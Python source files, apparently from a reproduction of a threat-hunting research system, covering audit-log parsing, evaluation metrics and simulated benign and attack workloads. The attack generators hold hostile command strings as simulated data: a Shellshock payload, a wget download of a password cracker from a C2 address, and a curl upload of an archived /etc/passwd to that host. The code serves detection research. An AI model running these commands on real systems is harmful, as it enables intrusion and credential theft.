    "The following activity was observed during an incident response engagement.",
    "Analysts attribute the campaign to a financially motivated intrusion set.",
    "A partner organisation shared the report below for community awareness.",
)

_VARIANT_OUTROS: tuple[str, ...] = (
    "Defenders are advised to review their audit logs for this activity.",
    "The listed indicators were shared for retrospective hunting.",
    "Additional telemetry is being collected and will be published later.",
)

_IP_PATTERN = re.compile(r"\b(\d{1,3})\.(\d{1,3})\.(\d{1,3})\.(\d{1,3})\b")


def _defang_ips(text: str) -> str:
    """Rewrite plain IPv4 addresses into the defanged ``1[.]2[.]3[.]4`` form."""
    return _IP_PATTERN.sub(r"\1[.]\2[.]\3[.]\4", text)


def corpus_variants(
    count: int,
    seed: int = 7,
    bases: tuple[AnnotatedReport, ...] | None = None,
) -> list[AnnotatedReport]:
    """Deterministically expand the bundled reports into a ``count``-report corpus.

    Variants cycle through the auditable bundled reports and apply
    behavior-preserving feed noise — defanged indicators, IOC-free intro and
    outro paragraphs — so every variant of one base describes the *same*
    threat behavior (and synthesizes to the same canonical TBQL query).  The
    ground-truth annotations of the base are carried over unchanged.
    """
    if count < 0:
        raise ValueError("count must be non-negative")
    rng = random.Random(seed)
    bases = bases if bases is not None else auditable_reports()
    if not bases:
        raise ValueError("corpus_variants needs at least one base report")
    variants: list[AnnotatedReport] = []
    for index in range(count):
        base = bases[index % len(bases)]
        text = base.text
        if rng.random() < 0.5:
            text = _defang_ips(text)
        if rng.random() < 0.6:
            text = f"{rng.choice(_VARIANT_INTROS)}\n\n{text}"
        if rng.random() < 0.4:
            text = f"{text}\n\n{rng.choice(_VARIANT_OUTROS)}"
        variants.append(
            AnnotatedReport(
                name=f"{base.name}-v{index}",
                title=f"{base.title} (feed variant {index})",
                text=text,
                ioc_ground_truth=base.ioc_ground_truth,
                relation_ground_truth=base.relation_ground_truth,
                auditable=base.auditable,
            )
        )
    return variants
