"""Evaluation metrics shared by the tests, examples and benchmark harness.

Two kinds of scoring are needed to reproduce the paper's evaluation axes:

* **extraction accuracy** — precision/recall/F1 of the IOCs and of the
  ⟨subject, verb, object⟩ relations produced by the NLP pipeline against the
  corpus ground truth (EXP-NLP-ACC);
* **hunting accuracy** — precision/recall/F1 of the audit events matched by an
  executed TBQL query against the event ids injected by an attack scenario
  (EXP-E2E-ATTACKS).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Iterable

from repro.data.osctireports import AnnotatedReport
from repro.nlp.behavior_graph import ThreatBehaviorGraph
from repro.nlp.extractor import ExtractionResult


@dataclass(frozen=True)
class PrecisionRecall:
    """A precision/recall/F1 triple with the underlying counts."""

    true_positives: int
    false_positives: int
    false_negatives: int

    @property
    def precision(self) -> float:
        denominator = self.true_positives + self.false_positives
        return self.true_positives / denominator if denominator else 0.0

    @property
    def recall(self) -> float:
        denominator = self.true_positives + self.false_negatives
        return self.true_positives / denominator if denominator else 0.0

    @property
    def f1(self) -> float:
        # Computed straight from the counts: 2·TP / (2·TP + FP + FN) equals
        # the harmonic mean of precision and recall but guards the
        # both-precision-and-recall-zero corner (e.g. empty prediction vs.
        # empty ground truth) with an exact integer test instead of a float
        # sum comparison.
        denominator = 2 * self.true_positives + self.false_positives + self.false_negatives
        if denominator == 0:
            return 0.0
        return 2 * self.true_positives / denominator

    def as_dict(self) -> dict[str, float]:
        return {
            "precision": round(self.precision, 4),
            "recall": round(self.recall, 4),
            "f1": round(self.f1, 4),
        }


def score_sets(predicted: Iterable, expected: Iterable) -> PrecisionRecall:
    """Score a predicted set against an expected set."""
    predicted_set = set(predicted)
    expected_set = set(expected)
    true_positives = len(predicted_set & expected_set)
    return PrecisionRecall(
        true_positives=true_positives,
        false_positives=len(predicted_set - expected_set),
        false_negatives=len(expected_set - predicted_set),
    )


# ---------------------------------------------------------------------------
# Extraction accuracy.
# ---------------------------------------------------------------------------


def _normalize_ioc_text(text: str) -> str:
    return text.strip().rstrip(".,;:").lower()


def score_ioc_extraction(result: ExtractionResult, report: AnnotatedReport) -> PrecisionRecall:
    """Score recognised IOCs (after merging) against a report's ground truth."""
    if result.merge_result is not None:
        predicted = {
            _normalize_ioc_text(ioc.text) for ioc in result.merge_result.canonical_iocs()
        }
    else:
        predicted = {_normalize_ioc_text(ioc.text) for ioc in result.iocs}
    expected = {_normalize_ioc_text(text) for text in report.ioc_ground_truth}
    return score_sets(predicted, expected)


def _graph_triplets(graph: ThreatBehaviorGraph) -> set[tuple[str, str, str]]:
    return {
        (
            _normalize_ioc_text(edge.subject.text),
            edge.verb,
            _normalize_ioc_text(edge.obj.text),
        )
        for edge in graph.edges
    }


def score_relation_extraction(
    result: ExtractionResult, report: AnnotatedReport
) -> PrecisionRecall:
    """Score extracted behaviour edges against a report's relation ground truth."""
    predicted = _graph_triplets(result.graph)
    expected = {
        (_normalize_ioc_text(subject), verb, _normalize_ioc_text(obj))
        for subject, verb, obj in report.relation_ground_truth
    }
    return score_sets(predicted, expected)


# ---------------------------------------------------------------------------
# Hunting accuracy.
# ---------------------------------------------------------------------------


def score_hunting(
    matched_event_ids: Iterable[int], ground_truth_event_ids: Iterable[int]
) -> PrecisionRecall:
    """Score matched audit events against an attack's injected event ids."""
    return score_sets(matched_event_ids, ground_truth_event_ids)
