"""System auditing substrate: entities, events, log format, parsing, CPR.

This package replaces the paper's Sysdig-based kernel auditing with a
deterministic host simulator while keeping the downstream data model (system
entities, system events, Sysdig-style log records) identical.
"""

from repro.auditing.entities import (
    DEFAULT_ATTRIBUTE,
    ENTITY_ATTRIBUTES,
    EntityFactory,
    EntityType,
    FileEntity,
    NetworkEntity,
    ProcessEntity,
    SystemEntity,
    entity_from_row,
)
from repro.auditing.events import (
    OPERATIONS_BY_EVENT_TYPE,
    EventFactory,
    EventType,
    Operation,
    SystemEvent,
    event_from_row,
    event_type_for_object,
)
from repro.auditing.parser import AuditLogParser, ParseStatistics, parse_log_text
from repro.auditing.reduction import (
    CausalityPreservedReducer,
    IncrementalReducer,
    ReducedEvent,
    ReductionStats,
    reduce_trace,
)
from repro.auditing.trace import AuditTrace

__all__ = [
    "AuditLogParser",
    "AuditTrace",
    "CausalityPreservedReducer",
    "DEFAULT_ATTRIBUTE",
    "ENTITY_ATTRIBUTES",
    "EntityFactory",
    "EntityType",
    "EventFactory",
    "EventType",
    "FileEntity",
    "IncrementalReducer",
    "NetworkEntity",
    "OPERATIONS_BY_EVENT_TYPE",
    "Operation",
    "ParseStatistics",
    "ProcessEntity",
    "ReducedEvent",
    "ReductionStats",
    "SystemEntity",
    "SystemEvent",
    "entity_from_row",
    "event_from_row",
    "event_type_for_object",
    "parse_log_text",
    "reduce_trace",
]
