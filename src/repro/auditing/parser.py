"""Log parsing: Sysdig-style records → system entities and system events.

ThreatRaptor "parses the collected logs into system entities and system events,
and extracts critical attributes".  The :class:`AuditLogParser` consumes the
field dicts produced by :mod:`repro.auditing.sysdig` and rebuilds an
:class:`~repro.auditing.trace.AuditTrace`, de-duplicating entities through an
:class:`~repro.auditing.entities.EntityFactory` so repeated observations of the
same file/process/connection map to a single entity.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Iterable, Iterator, TextIO

from repro.auditing.entities import EntityFactory, SystemEntity
from repro.auditing.events import Operation, SystemEvent
from repro.auditing.sysdig import iter_records_lenient
from repro.auditing.trace import AuditTrace
from repro.errors import AuditLogError


@dataclass
class ParseStatistics:
    """Counters describing one parsing run."""

    records_seen: int = 0
    records_parsed: int = 0
    records_skipped: int = 0
    #: Unterminated final lines held back by a tailing source (a collector
    #: caught mid-write): neither parsed nor skipped, just not complete yet.
    records_torn: int = 0
    errors: list[str] = field(default_factory=list)

    @property
    def skip_ratio(self) -> float:
        """Fraction of records that had to be skipped (0.0 for a clean log)."""
        if not self.records_seen:
            return 0.0
        return self.records_skipped / self.records_seen


class AuditLogParser:
    """Parses Sysdig-style audit logs into an :class:`AuditTrace`.

    The parser is tolerant by default: corrupt records are counted and skipped
    rather than aborting the whole ingestion, matching how the system behaves
    against noisy production logs.  Pass ``strict=True`` to abort on the first
    malformed record instead.
    """

    def __init__(self, host: str = "localhost", strict: bool = False) -> None:
        self._host = host
        self._strict = strict

    def parse(self, stream: TextIO | Iterable[str]) -> tuple[AuditTrace, ParseStatistics]:
        """Parse every record in ``stream``.

        Returns:
            The reconstructed trace and the parsing statistics.

        Raises:
            AuditLogError: in strict mode, on the first malformed record.
        """
        factory = EntityFactory(host=self._host)
        trace = AuditTrace(host=self._host)
        stats = ParseStatistics()
        events = [event for event, _, _ in self.iter_events(stream, factory=factory, stats=stats)]
        trace.add_entities(factory.all_entities())
        trace.add_events(events)
        return trace, stats

    def iter_events(
        self,
        stream: TextIO | Iterable[str],
        factory: EntityFactory | None = None,
        stats: ParseStatistics | None = None,
    ) -> Iterator[tuple[SystemEvent, SystemEntity, SystemEntity]]:
        """Incrementally parse ``stream``, yielding one event at a time.

        This is the streaming counterpart of :meth:`parse`: records are
        converted as they are read instead of materialising a whole trace, so a
        log can be tailed line by line.  Each item is the parsed event together
        with its subject and object entities (deduplicated through
        ``factory``, which callers tailing across multiple reads should pass in
        and keep).

        Args:
            factory: Entity factory to deduplicate entities through; a fresh
                one is created when omitted.
            stats: Statistics object to update in place; counters are discarded
                when omitted.

        Raises:
            AuditLogError: in strict mode, on the first malformed record.
        """
        factory = factory if factory is not None else EntityFactory(host=self._host)
        stats = stats if stats is not None else ParseStatistics()
        for record, error in iter_records_lenient(stream):
            stats.records_seen += 1
            if error is not None:
                if self._strict:
                    raise AuditLogError(error)
                stats.records_skipped += 1
                stats.errors.append(error)
                continue
            assert record is not None
            try:
                event, subject, obj = self._record_to_event(record, factory)
            except (AuditLogError, KeyError, ValueError) as exc:
                if self._strict:
                    raise AuditLogError(str(exc)) from exc
                stats.records_skipped += 1
                stats.errors.append(str(exc))
                continue
            stats.records_parsed += 1
            yield event, subject, obj

    def parse_file(self, path: str) -> tuple[AuditTrace, ParseStatistics]:
        """Parse an audit log file from disk."""
        with open(path, "r", encoding="utf-8") as handle:
            return self.parse(handle)

    # -- internal ----------------------------------------------------------

    def _record_to_event(
        self, record: dict[str, str], factory: EntityFactory
    ) -> tuple[SystemEvent, SystemEntity, SystemEntity]:
        subject = factory.process(
            exename=record["proc.name"],
            pid=int(record["proc.pid"]),
            cmdline=record.get("proc.cmdline", ""),
            owner=record.get("user.name", "root"),
        )
        obj = self._parse_object(record, factory)
        operation = Operation.from_string(record["evt.type"])
        start_time = int(record["evt.time"])
        end_time = int(record.get("evt.endtime", start_time))
        event = SystemEvent(
            event_id=int(record["evt.num"]),
            subject_id=subject.entity_id,
            object_id=obj.entity_id,
            operation=operation,
            object_type=obj.entity_type,
            start_time=start_time,
            end_time=end_time,
            amount=int(record.get("evt.buflen", "0") or 0),
            host=record.get("host", self._host),
        )
        return event, subject, obj

    def _parse_object(
        self, record: dict[str, str], factory: EntityFactory
    ) -> SystemEntity:
        if "fd.name" in record:
            return factory.file(record["fd.name"])
        if "child.name" in record:
            return factory.process(
                exename=record["child.name"],
                pid=int(record["child.pid"]),
                cmdline=record.get("child.cmdline", ""),
            )
        if "fd.cip" in record:
            return factory.network(
                srcip=record.get("fd.sip", ""),
                srcport=int(record.get("fd.sport", "0") or 0),
                dstip=record["fd.cip"],
                dstport=int(record.get("fd.cport", "0") or 0),
                protocol=record.get("fd.l4proto", "tcp"),
            )
        raise AuditLogError(
            f"record {record.get('evt.num', '?')} has no recognisable object fields"
        )


def parse_log_text(text: str, host: str = "localhost") -> AuditTrace:
    """Convenience helper: parse a log given as one string, ignoring stats."""
    trace, _ = AuditLogParser(host=host).parse(text.splitlines())
    return trace
