"""Workload generators: benign background activity and multi-step attacks."""

from repro.auditing.workload.attacks import (
    ATTACK_SCENARIOS,
    AttackGroundTruth,
    AttackScenario,
    AttackStep,
    DataLeakageAttack,
    Figure2DataLeakageChain,
    PasswordCrackingAttack,
)
from repro.auditing.workload.base import ScenarioBuilder, VirtualClock, WorkloadGenerator
from repro.auditing.workload.benign import (
    DEFAULT_BENIGN_WORKLOADS,
    AuthenticationWorkload,
    BackupWorkload,
    DeveloperShellWorkload,
    LogRotationWorkload,
    NoisyFileServerWorkload,
    SoftwareUpdateWorkload,
    WebServerWorkload,
)
from repro.auditing.workload.generator import (
    HostSimulator,
    SimulationResult,
    simulate_demo_host,
)

__all__ = [
    "ATTACK_SCENARIOS",
    "AttackGroundTruth",
    "AttackScenario",
    "AttackStep",
    "AuthenticationWorkload",
    "BackupWorkload",
    "DEFAULT_BENIGN_WORKLOADS",
    "DataLeakageAttack",
    "DeveloperShellWorkload",
    "Figure2DataLeakageChain",
    "HostSimulator",
    "LogRotationWorkload",
    "NoisyFileServerWorkload",
    "PasswordCrackingAttack",
    "ScenarioBuilder",
    "SimulationResult",
    "SoftwareUpdateWorkload",
    "VirtualClock",
    "WebServerWorkload",
    "WorkloadGenerator",
    "simulate_demo_host",
]
