"""Benign background workload generators.

The paper's demo keeps the deployed server running "its routine tasks to
emulate the real-world deployment, where benign system activities and
malicious system activities co-exist".  These generators produce that benign
background: web serving, log rotation, software updates, developer shell
activity, backups and periodic cron jobs.  They are deliberately "noisy" in
ways that stress the hunting pipeline — e.g. they touch ``/etc/passwd`` and
use ``tar``/``curl`` in legitimate ways so that naive single-IOC matching
produces false positives that only multi-step behaviour queries eliminate.
"""

from __future__ import annotations

from repro.auditing.events import Operation
from repro.auditing.workload.base import ScenarioBuilder, WorkloadGenerator


class WebServerWorkload(WorkloadGenerator):
    """An nginx-like web server handling client requests.

    Each request: accept a connection, read a static file, send a response and
    append to the access log.  Generates ``4 * requests`` events.
    """

    name = "web-server"

    def __init__(self, requests: int = 100) -> None:
        self.requests = requests

    def generate(self, builder: ScenarioBuilder) -> None:
        nginx = builder.spawn_process(
            "/usr/sbin/nginx", cmdline="nginx: worker process", owner="www-data"
        )
        access_log = builder.file("/var/log/nginx/access.log")
        documents = [
            builder.file(f"/var/www/html/page{i}.html") for i in range(1, 9)
        ]
        for _ in range(self.requests):
            client_ip = (
                f"203.0.113.{builder.random.randint(1, 254)}"
            )
            conn = builder.connection(dstip=client_ip, dstport=443, srcip="10.0.0.5")
            builder.emit(nginx, Operation.ACCEPT, conn)
            builder.read(nginx, builder.random.choice(documents), amount=builder.random.randint(512, 8192))
            builder.send(nginx, conn, amount=builder.random.randint(512, 8192))
            builder.write(nginx, access_log, amount=builder.random.randint(64, 256))


class LogRotationWorkload(WorkloadGenerator):
    """logrotate compressing and truncating system logs (uses bzip2 benignly)."""

    name = "log-rotation"

    def __init__(self, rotations: int = 5) -> None:
        self.rotations = rotations

    def generate(self, builder: ScenarioBuilder) -> None:
        logrotate = builder.spawn_process("/usr/sbin/logrotate", cmdline="logrotate /etc/logrotate.conf")
        config = builder.file("/etc/logrotate.conf")
        builder.read(logrotate, config, amount=1024)
        for index in range(self.rotations):
            syslog = builder.file("/var/log/syslog")
            rotated = builder.file(f"/var/log/syslog.{index + 1}")
            compressed = builder.file(f"/var/log/syslog.{index + 1}.bz2")
            bzip2 = builder.spawn_process("/bin/bzip2", cmdline=f"bzip2 /var/log/syslog.{index + 1}")
            builder.read(logrotate, syslog, amount=1 << 16)
            builder.write(logrotate, rotated, amount=1 << 16)
            builder.fork(logrotate, bzip2)
            builder.read(bzip2, rotated, amount=1 << 16)
            builder.write(bzip2, compressed, amount=1 << 14)
            builder.emit(logrotate, Operation.DELETE, rotated)


class SoftwareUpdateWorkload(WorkloadGenerator):
    """apt-like package updates: download with curl, unpack with tar.

    This intentionally exercises ``/usr/bin/curl`` and ``/bin/tar`` in a
    benign context so IOC-only matching yields false positives.
    """

    name = "software-update"

    def __init__(self, packages: int = 6) -> None:
        self.packages = packages

    def generate(self, builder: ScenarioBuilder) -> None:
        apt = builder.spawn_process("/usr/bin/apt-get", cmdline="apt-get upgrade -y")
        sources = builder.file("/etc/apt/sources.list")
        builder.read(apt, sources, amount=2048)
        for index in range(self.packages):
            mirror = builder.connection(dstip="151.101.2.132", dstport=443)
            curl = builder.spawn_process(
                "/usr/bin/curl", cmdline=f"curl -O https://mirror/pkg{index}.tar"
            )
            archive = builder.file(f"/var/cache/apt/archives/pkg{index}.tar")
            unpack_dir = builder.file(f"/usr/lib/pkg{index}/payload.so")
            tar = builder.spawn_process("/bin/tar", cmdline=f"tar -xf pkg{index}.tar")
            builder.fork(apt, curl)
            builder.connect(curl, mirror)
            builder.recv(curl, mirror, amount=1 << 20)
            builder.write(curl, archive, amount=1 << 20)
            builder.fork(apt, tar)
            builder.read(tar, archive, amount=1 << 20)
            builder.write(tar, unpack_dir, amount=1 << 20)


class DeveloperShellWorkload(WorkloadGenerator):
    """An interactive developer session: editing, compiling, running tests."""

    name = "developer-shell"

    def __init__(self, iterations: int = 20) -> None:
        self.iterations = iterations

    def generate(self, builder: ScenarioBuilder) -> None:
        bash = builder.spawn_process("/bin/bash", cmdline="-bash", owner="alice")
        bashrc = builder.file("/home/alice/.bashrc")
        builder.read(bash, bashrc, amount=512)
        source = builder.file("/home/alice/project/main.c")
        binary = builder.file("/home/alice/project/a.out")
        for _ in range(self.iterations):
            editor = builder.spawn_process("/usr/bin/vim", cmdline="vim main.c", owner="alice")
            compiler = builder.spawn_process("/usr/bin/gcc", cmdline="gcc main.c", owner="alice")
            runner = builder.spawn_process("/home/alice/project/a.out", cmdline="./a.out", owner="alice")
            builder.fork(bash, editor)
            builder.read(editor, source, amount=4096)
            builder.write(editor, source, amount=4096)
            builder.fork(bash, compiler)
            builder.read(compiler, source, amount=4096)
            builder.write(compiler, binary, amount=16384)
            builder.fork(bash, runner)
            builder.execute(runner, binary)


class BackupWorkload(WorkloadGenerator):
    """A nightly backup job: tar + gpg + remote upload.

    The step structure intentionally resembles the data-leakage attack (read,
    compress, encrypt, upload) but starts from benign directories and uploads
    to the corporate backup server, so only queries constraining the actual
    IOC values (paths, IPs) distinguish it from the attack.
    """

    name = "backup"

    def __init__(self, files_per_run: int = 10, runs: int = 2) -> None:
        self.files_per_run = files_per_run
        self.runs = runs

    def generate(self, builder: ScenarioBuilder) -> None:
        cron = builder.spawn_process("/usr/sbin/cron", cmdline="cron -f")
        for run in range(self.runs):
            tar = builder.spawn_process("/bin/tar", cmdline="tar -cf /backup/home.tar /home")
            gpg = builder.spawn_process("/usr/bin/gpg", cmdline="gpg -c /backup/home.tar")
            curl = builder.spawn_process("/usr/bin/curl", cmdline="curl -T /backup/home.tar.gpg backup.corp")
            archive = builder.file(f"/backup/home-{run}.tar")
            encrypted = builder.file(f"/backup/home-{run}.tar.gpg")
            backup_server = builder.connection(dstip="10.1.1.9", dstport=443)
            builder.fork(cron, tar)
            for index in range(self.files_per_run):
                source = builder.file(f"/home/alice/documents/doc{index}.txt")
                builder.read(tar, source, amount=8192)
            builder.write(tar, archive, amount=8192 * self.files_per_run)
            builder.fork(cron, gpg)
            builder.read(gpg, archive, amount=8192 * self.files_per_run)
            builder.write(gpg, encrypted, amount=8192 * self.files_per_run)
            builder.fork(cron, curl)
            builder.read(curl, encrypted, amount=8192 * self.files_per_run)
            builder.connect(curl, backup_server)
            builder.send(curl, backup_server, amount=8192 * self.files_per_run)


class AuthenticationWorkload(WorkloadGenerator):
    """sshd sessions reading /etc/passwd and /etc/shadow legitimately."""

    name = "authentication"

    def __init__(self, logins: int = 15) -> None:
        self.logins = logins

    def generate(self, builder: ScenarioBuilder) -> None:
        sshd = builder.spawn_process("/usr/sbin/sshd", cmdline="sshd: alice [priv]")
        passwd = builder.file("/etc/passwd")
        shadow = builder.file("/etc/shadow")
        auth_log = builder.file("/var/log/auth.log")
        for _ in range(self.logins):
            client = builder.connection(
                dstip=f"198.51.100.{builder.random.randint(1, 254)}", dstport=22
            )
            builder.emit(sshd, Operation.ACCEPT, client)
            builder.read(sshd, passwd, amount=2048)
            builder.read(sshd, shadow, amount=1024)
            builder.write(sshd, auth_log, amount=128)


class NoisyFileServerWorkload(WorkloadGenerator):
    """A file server generating many repeated same-edge events.

    Used by the Causality Preserved Reduction benchmark: each client session
    produces a long burst of reads on one file and writes to one socket, which
    CPR should collapse dramatically.
    """

    name = "noisy-file-server"

    def __init__(self, sessions: int = 10, operations_per_session: int = 100) -> None:
        self.sessions = sessions
        self.operations_per_session = operations_per_session

    def generate(self, builder: ScenarioBuilder) -> None:
        smbd = builder.spawn_process("/usr/sbin/smbd", cmdline="smbd --foreground")
        for session in range(self.sessions):
            shared = builder.file(f"/srv/share/dataset-{session}.bin")
            client = builder.connection(
                dstip=f"192.0.2.{(session % 250) + 1}", dstport=445
            )
            builder.connect(smbd, client)
            # Bursty access: a long run of reads on the shared file followed by
            # a long run of sends to the client.  CPR collapses each burst into
            # a single aggregated event because no other edge touches either
            # endpoint inside the burst.
            for _ in range(self.operations_per_session):
                builder.read(smbd, shared, amount=4096, gap_ms=0.2)
            for _ in range(self.operations_per_session):
                builder.send(smbd, client, amount=4096, gap_ms=0.2)


#: The default mix of benign workloads used by the host simulator.
DEFAULT_BENIGN_WORKLOADS: tuple[type[WorkloadGenerator], ...] = (
    WebServerWorkload,
    LogRotationWorkload,
    SoftwareUpdateWorkload,
    DeveloperShellWorkload,
    BackupWorkload,
    AuthenticationWorkload,
)
