"""Multi-step attack scenario generators.

The paper demonstrates ThreatRaptor on two multi-step intrusive attacks that
exploit system vulnerabilities and exfiltrate sensitive data (Section III):

* **Password Cracking After Shellshock Penetration** — exploit Shellshock,
  fetch an image from a cloud service whose EXIF metadata encodes the C2 IP,
  download a password cracker from the C2 host, and run it against the shadow
  file to extract clear-text passwords.

* **Data Leakage After Shellshock Penetration** — scan the file system, scrape
  files into a single compressed file, and transfer it back to the C2 server.
  The final stage of this attack is the Figure 2 data-leakage chain
  (tar → bzip2 → gpg → curl → C2), which this module reproduces step by step.

Every scenario labels the events it emits as malicious so that hunting
precision/recall can be computed against ground truth.  The scenarios also
expose the *expected hunting answer*: the set of (subject exe, operation,
object identifier) steps that a correct TBQL query should return.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.auditing.events import Operation, SystemEvent
from repro.auditing.workload.base import ScenarioBuilder, WorkloadGenerator


@dataclass(frozen=True)
class AttackStep:
    """Ground-truth description of one step of an injected attack."""

    subject_exe: str
    operation: Operation
    object_identifier: str
    event_id: int


@dataclass
class AttackGroundTruth:
    """Ground truth produced by an attack generator for evaluation."""

    name: str
    steps: list[AttackStep] = field(default_factory=list)
    event_ids: set[int] = field(default_factory=set)

    def record(self, event: SystemEvent, subject_exe: str, object_identifier: str) -> None:
        """Record one attack step and its concrete event id."""
        self.steps.append(
            AttackStep(
                subject_exe=subject_exe,
                operation=event.operation,
                object_identifier=object_identifier,
                event_id=event.event_id,
            )
        )
        self.event_ids.add(event.event_id)


class AttackScenario(WorkloadGenerator):
    """Base class for attack scenarios that track ground truth."""

    name = "attack"

    def __init__(self) -> None:
        self.ground_truth = AttackGroundTruth(name=self.name)

    def _mark(
        self,
        event: SystemEvent,
        subject_exe: str,
        object_identifier: str,
    ) -> SystemEvent:
        self.ground_truth.record(event, subject_exe, object_identifier)
        return event


# ---------------------------------------------------------------------------
# Figure 2: the data-leakage chain used throughout the paper's walkthrough.
# ---------------------------------------------------------------------------


class Figure2DataLeakageChain(AttackScenario):
    """The 8-step data-leakage chain of the paper's Figure 2.

    Steps (each labelled malicious, each recorded in the ground truth):

    1. ``/bin/tar`` reads ``/etc/passwd``
    2. ``/bin/tar`` writes ``/tmp/upload.tar``
    3. ``/bin/bzip2`` reads ``/tmp/upload.tar``
    4. ``/bin/bzip2`` writes ``/tmp/upload.tar.bz2``
    5. ``/usr/bin/gpg`` reads ``/tmp/upload.tar.bz2``
    6. ``/usr/bin/gpg`` writes ``/tmp/upload``
    7. ``/usr/bin/curl`` reads ``/tmp/upload``
    8. ``/usr/bin/curl`` connects to ``192.168.29.128``
    """

    name = "figure2-data-leakage"
    C2_IP = "192.168.29.128"

    def generate(self, builder: ScenarioBuilder) -> None:
        tar = builder.spawn_process("/bin/tar", cmdline="tar -cf /tmp/upload.tar /etc/passwd")
        bzip2 = builder.spawn_process("/bin/bzip2", cmdline="bzip2 /tmp/upload.tar")
        gpg = builder.spawn_process("/usr/bin/gpg", cmdline="gpg -c /tmp/upload.tar.bz2")
        curl = builder.spawn_process("/usr/bin/curl", cmdline=f"curl -T /tmp/upload {self.C2_IP}")

        passwd = builder.file("/etc/passwd")
        upload_tar = builder.file("/tmp/upload.tar")
        upload_bz2 = builder.file("/tmp/upload.tar.bz2")
        upload = builder.file("/tmp/upload")
        c2 = builder.connection(dstip=self.C2_IP, dstport=443)

        self._mark(builder.read(tar, passwd, amount=4096, malicious=True), "/bin/tar", "/etc/passwd")
        self._mark(builder.write(tar, upload_tar, amount=4096, malicious=True), "/bin/tar", "/tmp/upload.tar")
        self._mark(builder.read(bzip2, upload_tar, amount=4096, malicious=True), "/bin/bzip2", "/tmp/upload.tar")
        self._mark(builder.write(bzip2, upload_bz2, amount=2048, malicious=True), "/bin/bzip2", "/tmp/upload.tar.bz2")
        self._mark(builder.read(gpg, upload_bz2, amount=2048, malicious=True), "/usr/bin/gpg", "/tmp/upload.tar.bz2")
        self._mark(builder.write(gpg, upload, amount=2304, malicious=True), "/usr/bin/gpg", "/tmp/upload")
        self._mark(builder.read(curl, upload, amount=2304, malicious=True), "/usr/bin/curl", "/tmp/upload")
        self._mark(builder.connect(curl, c2, malicious=True), "/usr/bin/curl", self.C2_IP)


# ---------------------------------------------------------------------------
# Demo attack 1: password cracking after Shellshock penetration.
# ---------------------------------------------------------------------------


class PasswordCrackingAttack(AttackScenario):
    """Password cracking after Shellshock penetration (Section III, attack 1).

    Steps:

    1. Shellshock exploit: the web server's CGI bash handler is coerced into
       spawning an attacker shell (``accept`` from the attacker, ``fork`` of
       ``/bin/bash``).
    2. The shell uses ``/usr/bin/curl`` to connect to the Dropbox-like cloud
       service and download an image whose EXIF metadata encodes the C2 IP.
    3. The shell runs ``/usr/bin/exiftool``-style extraction by reading the
       image.
    4. ``/usr/bin/wget`` connects to the C2 host and downloads the password
       cracker binary ``/tmp/crack``.
    5. The cracker is made executable and launched.
    6. The cracker reads ``/etc/shadow`` and ``/etc/passwd``.
    7. The cracker writes the cracked clear-text passwords to
       ``/tmp/passwords.txt``.
    """

    name = "password-cracking"
    ATTACKER_IP = "162.125.248.18"  # the cloud service (Dropbox-like) endpoint
    C2_IP = "192.168.29.128"

    def generate(self, builder: ScenarioBuilder) -> None:
        apache = builder.spawn_process("/usr/sbin/apache2", cmdline="apache2 -k start", owner="www-data")
        cgi_bash = builder.spawn_process(
            "/bin/bash", cmdline="() { :; }; /bin/bash -i", owner="www-data"
        )
        curl = builder.spawn_process("/usr/bin/curl", cmdline="curl -O https://dropbox/c2.jpg", owner="www-data")
        wget = builder.spawn_process("/usr/bin/wget", cmdline=f"wget http://{self.C2_IP}/crack", owner="www-data")
        cracker = builder.spawn_process("/tmp/crack", cmdline="/tmp/crack /etc/shadow", owner="www-data")

        attacker_conn = builder.connection(dstip="198.18.0.66", dstport=80)
        dropbox_conn = builder.connection(dstip=self.ATTACKER_IP, dstport=443)
        c2_conn = builder.connection(dstip=self.C2_IP, dstport=80)
        image = builder.file("/tmp/c2.jpg")
        cracker_file = builder.file("/tmp/crack")
        shadow = builder.file("/etc/shadow")
        passwd = builder.file("/etc/passwd")
        cracked = builder.file("/tmp/passwords.txt")

        # Step 1: Shellshock penetration.
        self._mark(builder.emit(apache, Operation.ACCEPT, attacker_conn, malicious=True), "/usr/sbin/apache2", "198.18.0.66")
        self._mark(builder.fork(apache, cgi_bash, malicious=True), "/usr/sbin/apache2", "/bin/bash")
        # Step 2: download the image from the cloud service.
        self._mark(builder.fork(cgi_bash, curl, malicious=True), "/bin/bash", "/usr/bin/curl")
        self._mark(builder.connect(curl, dropbox_conn, malicious=True), "/usr/bin/curl", self.ATTACKER_IP)
        self._mark(builder.recv(curl, dropbox_conn, amount=1 << 18, malicious=True), "/usr/bin/curl", self.ATTACKER_IP)
        self._mark(builder.write(curl, image, amount=1 << 18, malicious=True), "/usr/bin/curl", "/tmp/c2.jpg")
        # Step 3: extract the C2 IP from the EXIF metadata.
        self._mark(builder.read(cgi_bash, image, amount=1 << 18, malicious=True), "/bin/bash", "/tmp/c2.jpg")
        # Step 4: download the password cracker from the C2 host.
        self._mark(builder.fork(cgi_bash, wget, malicious=True), "/bin/bash", "/usr/bin/wget")
        self._mark(builder.connect(wget, c2_conn, malicious=True), "/usr/bin/wget", self.C2_IP)
        self._mark(builder.recv(wget, c2_conn, amount=1 << 20, malicious=True), "/usr/bin/wget", self.C2_IP)
        self._mark(builder.write(wget, cracker_file, amount=1 << 20, malicious=True), "/usr/bin/wget", "/tmp/crack")
        # Step 5: launch the cracker.
        self._mark(builder.fork(cgi_bash, cracker, malicious=True), "/bin/bash", "/tmp/crack")
        self._mark(builder.execute(cracker, cracker_file, malicious=True), "/tmp/crack", "/tmp/crack")
        # Step 6: read the password databases.
        self._mark(builder.read(cracker, shadow, amount=4096, malicious=True), "/tmp/crack", "/etc/shadow")
        self._mark(builder.read(cracker, passwd, amount=4096, malicious=True), "/tmp/crack", "/etc/passwd")
        # Step 7: write the cracked passwords.
        self._mark(builder.write(cracker, cracked, amount=1024, malicious=True), "/tmp/crack", "/tmp/passwords.txt")


# ---------------------------------------------------------------------------
# Demo attack 2: data leakage after Shellshock penetration.
# ---------------------------------------------------------------------------


class DataLeakageAttack(AttackScenario):
    """Data leakage after Shellshock penetration (Section III, attack 2).

    The attacker scans the file system, scrapes valuable files into a single
    compressed archive and transfers it back to the C2 server.  The final
    exfiltration stage reproduces the Figure 2 chain.
    """

    name = "data-leakage"
    C2_IP = "192.168.29.128"

    def __init__(self, scanned_files: int = 12) -> None:
        super().__init__()
        self.scanned_files = scanned_files

